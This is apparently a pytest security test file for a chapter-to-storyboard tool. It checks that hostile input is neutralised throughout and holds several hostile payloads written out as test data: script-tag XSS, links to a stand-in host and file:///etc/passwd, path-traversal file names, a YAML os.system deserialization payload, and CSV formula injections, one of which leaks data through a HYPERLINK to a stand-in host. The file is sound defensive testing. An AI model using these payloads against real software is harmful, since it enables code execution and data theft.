"""Hostile text: a chapter is untrusted.  It reaches HTML and PDF as text,
WeasyPrint fetches nothing from the network or outside the project, YAML
is loaded safely, and folder names made from it cannot leave --out."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from novel2board import cli
from novel2board.read.slugs import chapter_slug, slugify
from novel2board.render.fetch import RefusedURL, check_url, safe_fetcher

HOSTILE = """# Chapter 1: <script>alert(1)</script></style>

Mara opened the door. <script>alert("x")</script> She saw <img src="http://198.51.100.7/x.png"> and <link href="file:///etc/passwd" rel="stylesheet"> on the wall.

“Look,” she said. ![cat](http://198.51.100.7/cat.png) He looked at the <b>bold</b> sky. <iframe src="https://198.51.100.7/"></iframe>

<style>body { background: url(http://198.51.100.7/bg.png) }</style> The boats rocked in the dark water of the harbour.
"""


class Elements(HTMLParser):
    """Every start tag in a document, with its attributes."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(html)
    return parser.tags


@pytest.fixture(scope="module")
def boarded(tmp_path_factory, nlp):
    """The hostile chapter boarded once, to every format (PDF included)."""
    import os
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "evil.md").write_text(HOSTILE, encoding="utf-8")
    cwd = os.getcwd()
    os.chdir(folder)
    try:
        status = cli.main(["evil.md", "-q"])
    finally:
        os.chdir(cwd)
    assert status == 0
    return folder / "out" / "evil"


def test_no_markup_from_the_chapter_reaches_the_html(boarded):
    html = (boarded / "storyboard.html").read_text(encoding="utf-8")
    tags = elements(html)
    assert not [t for t, _ in tags if t in ("script", "iframe", "link")]
    names = [t for t, _ in tags]
    # Only our own two <style> elements (the stylesheet, the footer), in the head.
    assert names.count("style") == 2 and "style" not in names[names.index("body"):]
    for tag, attrs in tags:
        for value in attrs.values():
            assert "198.51.100.7" not in (value or "") and "passwd" not in (value or ""), tag
    # ... but the words are all there, as text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img " in html and "&lt;link " in html
    assert "http://198.51.100.7/cat.png" in html


def test_title_cannot_break_out_of_the_style_element(boarded):
    html = (boarded / "storyboard.html").read_text(encoding="utf-8")
    head = html[:html.index("<body")]
    styles = re.findall(r"<style>(.*?)</style>", head, re.S)
    assert len(styles) == 2 and "alert" in styles[1]       # the title, in the footer rule
    assert not [s for s in styles if "<script" in s or "<" in s]


def test_the_pdf_shows_the_tags_as_text(boarded):
    from pypdf import PdfReader
    text = " ".join(page.extract_text() for page in PdfReader(boarded / "storyboard.pdf").pages)
    assert "<script>" in text.replace("\n", " ")


def test_json_and_prompts_keep_the_text_verbatim(boarded):
    data = json.loads((boarded / "shots.json").read_text(encoding="utf-8"))
    assert data["chapter"]["title"].startswith("<script>alert(1)</script>")


# -------------------------------------------------------------- the fetcher
@pytest.fixture
def roots(tmp_path):
    images = tmp_path / "out" / "ch" / "images"
    images.mkdir(parents=True)
    (images / "1.1.1.png").write_bytes(b"\x89PNG")
    return [images]


@pytest.mark.parametrize("url", [
    "http://198.51.100.7/x.png", "https://example.com/a.css", "ftp://example.com/f",
    "HTTP://EXAMPLE.COM/X", "//example.com/x.png", "gopher://x/", "file:///etc/passwd",
    "file://example.com/share/x.png",
])
def test_fetcher_refuses_network_and_outside_files(roots, url):
    with pytest.raises(RefusedURL):
        check_url(url, roots)


def test_fetcher_refuses_dot_dot_and_symlinks_out(roots, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("no")
    with pytest.raises(RefusedURL):
        check_url((roots[0] / ".." / ".." / ".." / "secret.txt").as_uri(), roots)
    link = roots[0] / "2.1.1.png"
    link.symlink_to(secret)
    with pytest.raises(RefusedURL):
        check_url(link.as_uri(), roots)


def test_fetcher_reads_the_users_images_and_data_urls(roots):
    assert check_url((roots[0] / "1.1.1.png").as_uri(), roots) == roots[0] / "1.1.1.png"
    assert check_url("data:image/png;base64,iVBORw0KGgo=", roots) is None


def test_weasyprint_asks_the_fetcher_and_gets_nothing(roots, tmp_path):
    """Raw hostile HTML straight into WeasyPrint: every URL refused, no request made."""
    import weasyprint
    fetcher = safe_fetcher(roots)
    html = ('<link rel="stylesheet" href="file:///etc/passwd">'
            '<link rel="stylesheet" href="http://127.0.0.1:9/a.css">'
            '<img src="http://127.0.0.1:9/x.png"><img src="../../../secret.png">'
            '<p style="background: url(https://127.0.0.1:9/bg.png)">x</p>')
    weasyprint.HTML(string=html, base_url=str(roots[0].parent) + "/",
                    url_fetcher=fetcher).write_pdf()
    assert set(fetcher.refused) >= {"file:///etc/passwd", "http://127.0.0.1:9/a.css",
                                    "http://127.0.0.1:9/x.png",
                                    "https://127.0.0.1:9/bg.png"}
    assert any("secret.png" in url for url in fetcher.refused)


# -------------------------------------------------------------- folder names
@pytest.mark.parametrize("stem", [
    "../../etc/passwd", "..", "/absolute/path", "con", "NUL", "com1", "lpt9",
    "x" * 500, "\u202e\u0000evil", "日本語の章", "   ", ".hidden", "a/b\\c:d*e?f",
])
def test_slugs_cannot_leave_out(stem):
    slug = slugify(stem)
    assert slug and len(slug) <= 60
    assert "/" not in slug and "\\" not in slug and slug not in (".", "..")
    assert slug.lower() not in {"con", "prn", "aux", "nul", "com1", "lpt9"}
    assert Path("out", chapter_slug(stem, 3)).resolve().parent == Path("out").resolve()


def test_hostile_titles_and_names_stay_inside_out(tmp_path, monkeypatch, capsys, nlp):
    monkeypatch.chdir(tmp_path)
    body = "\n\nMara walked to the harbour in the rain. The boats rocked.\n\n"
    manuscript = "".join(f"# Chapter {i}: {title}{body}" for i, title in enumerate(
        ["../../../../tmp/escape", "/etc/passwd", "CON", "x" * 90, "..", "NUL.txt"], 1))
    (tmp_path / "book.md").write_text(manuscript, encoding="utf-8")
    long_name = "y" * 200 + ".md"
    (tmp_path / long_name).write_text("Mara walked home in the rain." + body)
    assert cli.main(["book.md", long_name, "--out", "out", "--format", "json"]) == 0
    capsys.readouterr()
    out = (tmp_path / "out").resolve()
    made = [p for p in tmp_path.rglob("*") if p.is_file() and p.suffix == ".json"]
    assert len(made) == 7
    for path in made:
        assert out in path.resolve().parents
        assert len(path.parent.name) <= 64
    assert not Path("/tmp/escape").exists()


def test_project_name_in_the_config_is_escaped_too(tmp_path, monkeypatch, capsys, nlp):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "novel2board.yaml").write_text(
        'project: "</style><script>alert(1)</script>"\n'
        'author: "<img src=http://198.51.100.7/a.png>"\n')
    (tmp_path / "ch.md").write_text("Mara walked to the harbour. The boats rocked.\n")
    assert cli.main(["ch.md", "--format", "html", "-q"]) == 0
    capsys.readouterr()
    html = (tmp_path / "out" / "ch" / "storyboard.html").read_text()
    tags = elements(html)
    assert not [t for t, _ in tags if t == "script"]
    # The sheets' own images (sketches, writing lines) are data: URLs; the
    # author's <img> must not become one.
    assert not [a for t, a in tags if t == "img" and "198.51.100.7" in (a.get("src") or "")]
    assert all((a.get("src") or "").startswith("data:") for t, a in tags if t == "img")


def test_every_yaml_file_is_loaded_safely(tmp_path, monkeypatch, capsys, nlp):
    """A project's own rule or layout file cannot run code either."""
    monkeypatch.chdir(tmp_path)
    marker = tmp_path / "pwned"
    (tmp_path / "novel2board.yaml").write_text("project: X\n")
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "layouts.yaml").write_text(
        f"six-landscape: !!python/object/apply:os.system ['touch {marker}']\n")
    (tmp_path / "ch.md").write_text("Mara walked to the harbour. The boats rocked.\n")
    assert cli.main(["ch.md", "--format", "json"]) == 1
    err = capsys.readouterr().err
    assert "layouts.yaml:1" in err and "Traceback" not in err
    assert not marker.exists()


def test_csv_cells_from_the_chapter_cannot_be_spreadsheet_formulas(tmp_path, monkeypatch,
                                                                   capsys, nlp):
    import csv
    monkeypatch.chdir(tmp_path)
    (tmp_path / "ch.md").write_text(
        '=HYPERLINK("http://198.51.100.7/?leak","click") the door opened.\n\n'
        "+cmd|' /C calc'!A0 Mara walked in.\n\n@SUM(1+1) She sat down.\n\n"
        "-2+3 was written on the wall.\n")
    assert cli.main(["ch.md", "--format", "csv", "-q"]) == 0
    capsys.readouterr()
    rows = list(csv.reader((tmp_path / "out" / "ch" / "shots.csv").open(encoding="utf-8")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "-", "\t", "\r")
                and not c.lstrip("-").replace(".", "").isdigit()]
    assert any(c.startswith("'+cmd") for c in cells)
